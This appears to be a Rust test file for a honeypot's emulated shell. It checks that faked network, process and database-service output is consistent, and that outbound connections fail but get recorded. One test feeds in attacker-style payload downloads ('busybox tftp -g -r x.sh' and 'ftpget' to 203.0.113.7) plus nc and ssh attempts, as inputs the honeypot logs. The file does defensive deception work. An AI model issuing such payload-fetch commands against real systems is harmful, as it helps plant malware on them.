//! The tools agree with the machine, and nothing leaves.

use base_model::{DeckyService, Port};

use crate::HostHandle;
use crate::shell::Act;
use crate::shell::commands::harness::Shell;

#[test]
fn listeners_are_the_services_of_the_decky() {
    let mut shell = Shell::new();
    shell.prints("netstat -tln | grep -c LISTEN", "4\n");
    shell.prints("ss -tlnH4 | awk '{print $4}' | sort", "0.0.0.0:22\n0.0.0.0:80\n");
    shell.prints("netstat -tn | awk '/EST/ {print $4, $5}'", "10.0.3.1:22 198.51.100.9:40022\n");
    let pid = shell.run("pgrep -o sshd").out;
    let listed = shell.run("netstat -tlnp | awk '/:22 / {print $7}' | cut -d/ -f1").out;
    assert_eq!(listed.lines().next(), pid.lines().next());
}

#[test]
fn the_card_is_the_same_everywhere() {
    let mut shell = Shell::new();
    shell.prints("ip -4 -br a | awk '/UP/ {print $3}'", "10.0.3.1/24\n");
    shell.prints("ifconfig | awk '/inet 10/ {print $2}'", "10.0.3.1\n");
    let ip = shell.run("ip l | awk '/ether/ {print $2}'").out;
    assert_eq!(shell.run("ifconfig | awk '/ether/ {print $2}'").out, ip);
    shell.prints("route -n | awk '/UG/ {print $2}'", "10.0.3.1\n");
}

#[test]
fn nothing_is_reached_and_every_try_is_told() {
    let mut shell = Shell::new();
    let done =
        shell.run("busybox tftp -g -r x.sh 203.0.113.7; busybox ftpget -u a 203.0.113.7 y y");
    let urls: Vec<&[u8]> = done
        .acts
        .iter()
        .filter_map(|act| match act {
            Act::Fetch { url, .. } => Some(url.as_slice()),
            _ => None,
        })
        .collect();
    assert_eq!(urls, [&b"tftp://203.0.113.7/x.sh"[..], b"ftp://a@203.0.113.7/y"]);
    let done = shell.run("ping -c 3 203.0.113.7");
    assert_eq!(done.status, 1);
    assert!(done.out.contains("3 packets transmitted, 0 received, +3 errors, 100% packet loss"));
    shell.gives(
        "nc -w 1 -v 203.0.113.7 80",
        "",
        "(UNKNOWN) [203.0.113.7] 80 (?) : Connection timed out\n",
        1,
    );
    shell.gives("nc -z -v 127.0.0.1 22", "", "localhost [127.0.0.1] 22 (?) open\n", 0);
    shell.gives(
        "ssh root@db.example",
        "",
        "ssh: Could not resolve hostname db.example: Temporary failure in name resolution\n",
        255,
    );
}

#[test]
fn database_servers_run_listen_and_are_configured() {
    for (distro, mysql, postgres, processes) in
        [("debian", "mariadbd", "15", "6"), ("ubuntu22", "mysqld", "14", "7")]
    {
        let mut decky = crate::testing::decky(1, distro);
        for (name, number) in [("mysql", 3306), ("postgres", 5432), ("redis", 6379)] {
            let ports = vec![Port { number, reached_at: number }];
            let like = decky.services[0].clone();
            decky.services.push(DeckyService { name: name.to_owned(), ports, ..like });
        }
        let mut shell = Shell::on(HostHandle::new(decky, None));
        shell.prints(
            "ps -C redis-server -o user,args | tail -n 1",
            "root     /usr/bin/redis-server 0.0.0.0:6379\n",
        );
        shell.prints(&format!("ps -C {mysql} -o user | tail -n 1"), "mysql\n");
        let listening =
            shell.run("netstat -tlnp | awk '{print $4, $7}' | cut -d/ -f2 | sort -u").out;
        for program in [mysql, "postgres", "redis-server"] {
            assert!(listening.lines().any(|line| line == program), "{program}: {listening}");
        }
        let folder = format!("/etc/postgresql/{postgres}/main");
        shell.prints(&format!("stat -c %U {folder}/pg_hba.conf"), "postgres\n");
        shell.prints("stat -c %U:%G /var/lib/mysql /etc/redis", "mysql:mysql\nredis:redis\n");
        let workers = shell.run("pgrep -c -u postgres").out;
        // 14 still has a collector of statistics.
        assert_eq!(workers.trim(), processes);
        shell.prints("ps -eo pid | sort | uniq -d", "");
    }
}
